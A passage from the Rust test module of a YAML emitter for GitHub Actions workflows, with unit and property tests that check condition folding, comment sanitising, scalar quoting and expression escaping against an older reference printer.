                "staging-integration-europe-west".into(),
            ),
        ]);
        let job = Yaml::map([("if", Yaml::Cond(long.clone()))]);
        let doc = render(
            Dialect::GitHub,
            "",
            &Yaml::map([("jobs", Yaml::map([("plan", job)]))]),
        );
        assert_eq!(
            doc,
            "jobs:\n  plan:\n    if: >-\n      (github.event.pull_request.head.repo.full_name == github.repository) &&\n      (contains(fromJSON(needs.affected.outputs.environments), 'staging-integration-europe-west'))\n"
        );
        assert_eq!(
            parse(&doc)["jobs"]["plan"]["if"],
            serde_json::json!(long.text())
        );
        assert!(doc.lines().all(|l| l.chars().count() <= LINE_MAX), "{doc}");
        let short = Cond::And(vec![Cond::Raw("a"), Cond::Eq("b", "c".into())]);
        let doc = render(Dialect::GitHub, "", &Yaml::map([("if", Yaml::Cond(short))]));
        assert_eq!(doc, "if: (a) && (b == 'c')\n");
        // A part that a block could not carry as it is stays on one line.
        let odd = Cond::And(vec![
            Cond::Raw("a"),
            Cond::Eq("b", format!("{}\u{85}", "x".repeat(200))),
        ]);
        assert!(folded_cond(&odd, 4).is_none());
    }

    #[test]
    fn comments_stay_comments() {
        assert_eq!(comment(2, "a\nb: c\r\n"), "  # a\n  # b: c\n");
        assert_eq!(comment(0, "x\u{202e}y"), "# x y\n");
    }

    /// GitHub expressions and scripts the property test picks from (`&'static str` only, as in
    /// the document model).
    const EXPRS: [&str; 3] = ["inputs.tag", "github.sha", "secrets.X"];
    const SCRIPTS: [&str; 3] = ["echo hi\n", "set -eu\n\nrun \"$X\"\n  indented\n", ""];

    fn any_yaml() -> impl proptest::strategy::Strategy<Value = Yaml> {
        use proptest::prelude::*;
        // Text with YAML's and GitHub's special characters, line breaks and special words.
        let text = || {
            prop_oneof![
                "[a-zA-Z0-9 _./@()+:#'\"\\-]{0,12}",
                "[a-z${}'\\n\\r\\t\u{85}\u{2028}\u{202e} ]{0,12}",
                prop::sample::select(vec![
                    "yes", "No", "null", "~", "30s", "1m30s", "12", "-1", "@x", "a  b", "b ",
                    "${{ x }}", ""
                ])
                .prop_map(str::to_string),
            ]
        };
        let cond = prop_oneof![
            prop::sample::select(EXPRS.to_vec()).prop_map(Cond::Raw),
            (prop::sample::select(EXPRS.to_vec()), text()).prop_map(|(o, v)| Cond::Eq(o, v)),
            (prop::sample::select(EXPRS.to_vec()), text()).prop_map(|(o, v)| Cond::Contains(o, v)),
        ];
        let leaf = prop_oneof![
            Just(Yaml::Null),
            any::<bool>().prop_map(Yaml::Bool),
            any::<i64>().prop_map(Yaml::Int),
            text().prop_map(Yaml::Str),
            prop::sample::select(EXPRS.to_vec()).prop_map(Yaml::Expr),
            prop::sample::select(SCRIPTS.to_vec()).prop_map(Yaml::Script),
            prop::collection::vec(
                prop_oneof![
                    text().prop_map(Piece::Text),
                    prop::sample::select(EXPRS.to_vec()).prop_map(Piece::Expr),
                ],
                0..3
            )
            .prop_map(Yaml::Template),
            prop::collection::vec(cond, 1..3).prop_map(|c| Yaml::Cond(Cond::And(c))),
        ];
        leaf.prop_recursive(4, 64, 6, move |inner| {
            prop_oneof![
                prop::collection::vec(inner.clone(), 0..5).prop_map(Yaml::Seq),
                prop::collection::vec(inner.clone(), 0..3).prop_map(Yaml::FlowSeq),
                prop::collection::vec(
                    (prop::collection::vec(text(), 0..3), text(), inner.clone()),
                    0..5
                )
                .prop_map(|entries| Yaml::Map(
                    entries
                        .into_iter()
                        .map(|(comments, key, value)| Entry {
                            comments,
                            key,
                            value
                        })
                        .collect()
                )),
                prop::collection::vec((text(), inner), 0..3).prop_map(Yaml::FlowMap),
            ]
        })
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(2000))]
        /// The streaming printer prints what the printer that rendered every sequence item
        /// into a string of its own printed: comments above items, scripts, nested sequences
        /// of maps, every kind of scalar, in both dialects.
        #[test]
        fn the_streaming_printer_prints_what_the_nested_strings_printer_printed(
            doc in any_yaml(),
            github in proptest::bool::ANY,
            header in proptest::prop_oneof![proptest::strategy::Just(String::new()), proptest::strategy::Just("# h\n".to_string())],
        ) {
            let d = if github { Dialect::GitHub } else { Dialect::Plain };
            proptest::prop_assert_eq!(render(d, &header, &doc), nested_strings::render(d, &header, &doc));
        }

        /// Any condition, at any indentation, reads back as its text, folded or not; folded,
        /// every line within [`LINE_MAX`] when each part fits.
        #[test]
        fn conditions_read_back_as_their_text_at_any_width(
            values in proptest::collection::vec("[a-z${}'\n\u{85}\u{2028} #:-]{0,70}", 2..5),
            depth in 0usize..12,
        ) {
            let cond = Cond::And(
                values
                    .iter()
                    .enumerate()
                    .map(|(i, v)| if i % 2 == 0 {
                        Cond::Eq("inputs.environment", v.clone())
                    } else {
                        Cond::Contains("fromJSON(needs.affected.outputs.environments)", v.clone())
                    })
                    .collect(),
            );
            let mut doc = Yaml::map([("if", Yaml::Cond(cond.clone()))]);
            for _ in 0..depth {
                doc = Yaml::map([("k", doc)]);
            }
            let text = render(Dialect::GitHub, "", &doc);
            let mut value = &parse(&text);
            for _ in 0..depth {
                value = &value["k"];
            }
            proptest::prop_assert_eq!(&value["if"], &serde_json::json!(cond.text()), "{}", text);
            if let Some(lines) = folded_cond(&cond, 2 * depth + 3) {
                let indent = 2 * depth + 2;
                if lines.iter().all(|l| indent + l.chars().count() <= LINE_MAX) {
                    proptest::prop_assert!(text.lines().all(|l| l.chars().count() <= LINE_MAX), "{}", text);
                }
            }
        }

        /// A root mapping whose last entry's entries are printed as they come prints as the
        /// same mapping built whole: any entries before, any (or no) entries after, any key.
        #[test]
        fn a_last_mapping_printed_lazily_prints_as_the_whole_tree(
            root in proptest::collection::vec(any_yaml(), 0..3),
            last in proptest::collection::vec(any_yaml(), 0..4),
            key in "[a-z:# ]{0,6}",
            github in proptest::bool::ANY,
            header in proptest::prop_oneof![proptest::strategy::Just(String::new()), proptest::strategy::Just("# h\n".to_string())],
        ) {
            let d = if github { Dialect::GitHub } else { Dialect::Plain };
            let entries = |values: Vec<Yaml>, prefix: &str| -> Vec<Entry> {
                values
                    .into_iter()
                    .enumerate()
                    .map(|(i, value)| Entry { comments: vec![format!("{prefix} {i}")], key: format!("{prefix}{i}"), value })
                    .collect()
            };
            let root = entries(root, "r");
            let last = entries(last, "j");
            let mut whole = root.clone();
            whole.push(Entry { comments: Vec::new(), key: key.clone(), value: Yaml::Map(last.clone()) });
            proptest::prop_assert_eq!(
                render_last_lazily(d, &header, &root, &key, last),
                render(d, &header, &Yaml::Map(whole))
            );
        }

        /// The allocation-free scalar and comment encoders agree with the old ones on any
        /// text, including multi-byte characters and ASCII controls (DEL included).
        #[test]
        fn scalars_and_comments_encode_as_before(text in "\\PC{0,20}|[ a-z\u{85}\u{200b}\t\n]{0,40}|[ a-z\x01-\x1f\x7f]{0,40}", width in 1usize..12) {
            for d in [Dialect::Plain, Dialect::GitHub] {
                proptest::prop_assert_eq!(scalar(&text, d), nested_strings::scalar(&text, d));
            }
            proptest::prop_assert_eq!(comment_lines(&text, width), nested_strings::comment_lines(&text, width));
        }
    }

    /// The printer before it streamed (every nested sequence item rendered into a string of its
    /// own, then re-read line by line to place the dash; a `String` per scalar), kept as the
    /// oracle the streaming printer must match byte for byte.
    #[allow(clippy::all)]
    mod nested_strings {
        // The helpers the streaming printer did not change are the live ones.
        use crate::emit::yaml::{
            Dialect, Piece, SPECIAL_WORDS, Yaml, is_break, is_duration, is_inline, is_invisible,
            plain_expression_ok,
        };
        use std::fmt::Write as _;
        // Whether `s` may be printed as a plain scalar and read back as the same string.
        pub(super) fn plain_ok(s: &str) -> bool {
            let Some(first) = s.chars().next() else {
                return false;
            };
            if first.is_ascii_digit() {
                return is_duration(s);
            }
            if !(first.is_ascii_alphabetic() || first == '/' || first == '_') {
                return false;
            }
            // Inner spaces are plain text; `@` only matters as a first character.
            if !s.chars().all(|c| {
                c.is_ascii_alphanumeric()
                    || matches!(c, '_' | '-' | '.' | '/' | '+' | ' ' | '(' | ')' | '@')
            }) || s.ends_with(' ')
                || s.contains("  ")
            {
                return false;
            }
            let lower = s.to_ascii_lowercase();
            !SPECIAL_WORDS.iter().any(|w| w.eq_ignore_ascii_case(&lower))
        }

        // The text GitHub must read literally: each `${{` turned into an expression whose value is
        // `${{`.
        pub(super) fn defuse_expressions(s: &str) -> String {
            s.replace("${{", "${{ '${{' }}")
        }

        // `s` as a YAML scalar (plain, single- or double-quoted); in a workflow, GitHub expressions
        // defused.
        pub(super) fn scalar(s: &str, dialect: Dialect) -> String {
            let s = match dialect {
                Dialect::GitHub => defuse_expressions(s),
                Dialect::Plain => s.to_string(),
            };
            if plain_ok(&s) {
                s
            } else if single_ok(&s, dialect) {
                format!("'{}'", s.replace('\'', "''"))
            } else {
                double_quoted(&s)
            }
        }

        // Whether `s` is single-quoted: no control, no break, and in a workflow no `'`.
        fn single_ok(s: &str, d: Dialect) -> bool {
            s.chars().all(|c| !c.is_control() && !is_break(c))
                && !(d == Dialect::GitHub && s.contains('\''))
        }

        // A double-quoted YAML scalar with every non-printable character escaped.
        pub(super) fn double_quoted(s: &str) -> String {
            let mut out = String::from("\"");
            for c in s.chars() {
                match c {
                    '"' => out.push_str("\\\""),
                    '\\' => out.push_str("\\\\"),
                    '\n' => out.push_str("\\n"),
                    '\t' => out.push_str("\\t"),
                    '\r' => out.push_str("\\r"),
                    // `\u` takes four digits: beyond U+FFFF, `\U` (the live printer's fix,
                    // reached here since a workflow text with `'` is double-quoted).
                    c if (c.is_control() || is_break(c) || is_invisible(c))
                        && u32::from(c) > 0xffff =>
                    {
                        let _ = write!(out, "\\U{:08X}", u32::from(c));
                    }
                    c if c.is_control() || is_break(c) || is_invisible(c) => {
                        let _ = write!(out, "\\u{:04X}", u32::from(c));
                    }
                    c => out.push(c),
                }
            }
            out.push('"');
            out
        }

        // The comment lines (without `#`) of `text`: split on line breaks, control characters and
        // invisible characters replaced by spaces, wrapped at `width` characters.
        pub(super) fn comment_lines(text: &str, width: usize) -> Vec<String> {
            let mut lines = Vec::new();
            for raw in text.split(['\n', '\r', '\u{85}', '\u{2028}', '\u{2029}']) {
                let clean: String = raw
                    .chars()
                    .map(|c| {
                        if c.is_control() || is_invisible(c) {
                            ' '
                        } else {
                            c
                        }
                    })
                    .collect();
                let mut line = String::new();
                for word in clean.split_whitespace() {
                    if !line.is_empty() && line.chars().count() + word.chars().count() + 1 > width {
                        lines.push(std::mem::take(&mut line));
                    }
                    if !line.is_empty() {
                        line.push(' ');
                    }
                    line.push_str(word);
                }
                lines.push(line);
            }
            while lines.last().is_some_and(String::is_empty) {
                lines.pop();
            }
            lines
        }

        // `text` as `#` comment lines at `indent`, wrapped to about 96 characters of text.
        pub(super) fn comment(indent: usize, text: &str) -> String {
            let pad = " ".repeat(indent);
            comment_lines(text, 96)
                .into_iter()
                .map(|l| {
                    if l.is_empty() {
                        format!("{pad}#\n")
                    } else {
                        format!("{pad}# {l}\n")
                    }
                })
                .collect()
        }

        pub(super) fn inline(v: &Yaml, d: Dialect) -> String {
            match v {
                Yaml::Null => "null".into(),
                Yaml::Bool(b) => b.to_string(),
                Yaml::Int(n) => n.to_string(),
                Yaml::Str(s) => scalar(s, d),
                Yaml::Expr(e) => format!("${{{{ {e} }}}}"),
                Yaml::Template(pieces) => {
                    // Always quoted: literal parts defused, expressions kept.
                    let mut text = String::new();
                    for p in pieces {
                        match p {
                            Piece::Text(t) => match d {
                                Dialect::GitHub => text.push_str(&defuse_expressions(t)),
                                Dialect::Plain => text.push_str(t),
                            },
                            Piece::Expr(e) => {
                                let _ = write!(text, "${{{{ {e} }}}}");
                            }
                        }
                    }
                    if single_ok(&text, d) {
                        format!("'{}'", text.replace('\'', "''"))
                    } else {
                        double_quoted(&text)
                    }
                }
                Yaml::Seq(items) if items.is_empty() => "[]".into(),
                Yaml::Map(entries) if entries.is_empty() => "{}".into(),
                Yaml::FlowSeq(items) => {
                    let parts: Vec<String> = items.iter().map(|i| inline(i, d)).collect();
                    format!("[{}]", parts.join(", "))
                }
                Yaml::FlowMap(entries) => {
                    let parts: Vec<String> = entries
                        .iter()
                        .map(|(k, v)| format!("{}: {}", scalar(k, d), inline(v, d)))
                        .collect();
                    format!("{{{}}}", parts.join(", "))
                }
                // Multi-line values are printed by `block`; reaching here is a printer bug, so fall
                // back to a safe (if unusual) flow form.
                Yaml::Seq(items) => inline(&Yaml::FlowSeq(items.clone()), d),
                Yaml::Map(entries) => inline(
                    &Yaml::FlowMap(
                        entries
                            .iter()
                            .map(|e| (e.key.clone(), e.value.clone()))
                            .collect(),
                    ),
                    d,
                ),
                Yaml::Script(s) => double_quoted(s),
                // Newer than this printer, and never generated for the comparison: its compact
                // text as a string, as the live printer prints a short one.
                Yaml::Json(j) => scalar(&j.to_string(), d),
                Yaml::Cond(c) => {
                    let text = c.text();
                    if plain_expression_ok(&text) {
                        text
                    } else if single_ok(&text, d) {
                        format!("'{}'", text.replace('\'', "''"))
                    } else {
                        double_quoted(&text)
                    }
                }
            }
        }

        // Appends the lines of `v` at `indent` (a mapping's entries or a sequence's items).
        pub(super) fn block(out: &mut String, indent: usize, v: &Yaml, d: Dialect) {
            let pad = " ".repeat(indent);
            match v {
                Yaml::Map(entries) => {
                    for e in entries {
                        for c in &e.comments {
                            out.push_str(&comment(indent, c));
                        }
                        let key = scalar(&e.key, d);
                        value_after(out, indent, &format!("{pad}{key}:"), &e.value, d);
                    }
                }
                Yaml::Seq(items) => {
                    for item in items {
                        match item {
                            Yaml::Map(entries) if !entries.is_empty() => {
                                // The map's lines at indent + 2; the first key's line gets the dash,
                                // and the comments above it move to the dash's indentation.
                                let mut lines = String::new();
                                block(&mut lines, indent + 2, item, d);
                                let mut dashed = false;
                                for line in lines.lines() {
                                    let body = line.trim_start();
                                    if dashed {
                                        let _ = writeln!(out, "{line}");
                                    } else if body.starts_with('#') {
                                        let _ = writeln!(out, "{pad}{body}");
                                    } else {
                                        let _ = writeln!(out, "{pad}- {body}");
                                        dashed = true;
                                    }
                                }
                            }
                            _ => value_after(out, indent, &format!("{pad}-"), item, d),
                        }
                    }
                }
                other => {
                    let _ = writeln!(out, "{pad}{}", inline(other, d));
                }
            }
        }

        // Prints `lead` (a key with its colon, or a dash) followed by `v`.
        pub(super) fn value_after(
            out: &mut String,
            indent: usize,
            lead: &str,
            v: &Yaml,
            d: Dialect,
        ) {
            match v {
                Yaml::Script(text) => {
                    let _ = writeln!(out, "{lead} |");
                    let pad = " ".repeat(indent + 2);
                    for line in text.lines() {
                        if line.is_empty() {
                            out.push('\n');
                        } else {
                            let _ = writeln!(out, "{pad}{line}");
                        }
                    }
                }
                Yaml::Cond(c) if super::folded_cond(c, lead.chars().count()).is_some() => {
                    let _ = writeln!(out, "{lead} >-");
                    let pad = " ".repeat(indent + 2);
                    for line in super::folded_cond(c, lead.chars().count()).unwrap_or_default() {
                        let _ = writeln!(out, "{pad}{line}");
                    }
                }
                v if is_inline(v) => {
                    let _ = writeln!(out, "{lead} {}", inline(v, d));
                }
                v => {
                    let _ = writeln!(out, "{lead}");
                    block(out, indent + 2, v, d);
                }
            }
        }

        // Prints a document for `dialect`: `header` (comment lines, may be empty), then `root`.
        pub(super) fn render(dialect: Dialect, header: &str, root: &Yaml) -> String {
            let mut out = String::new();
            out.push_str(header);
            block(&mut out, 0, root, dialect);
            out
        }
    }
}
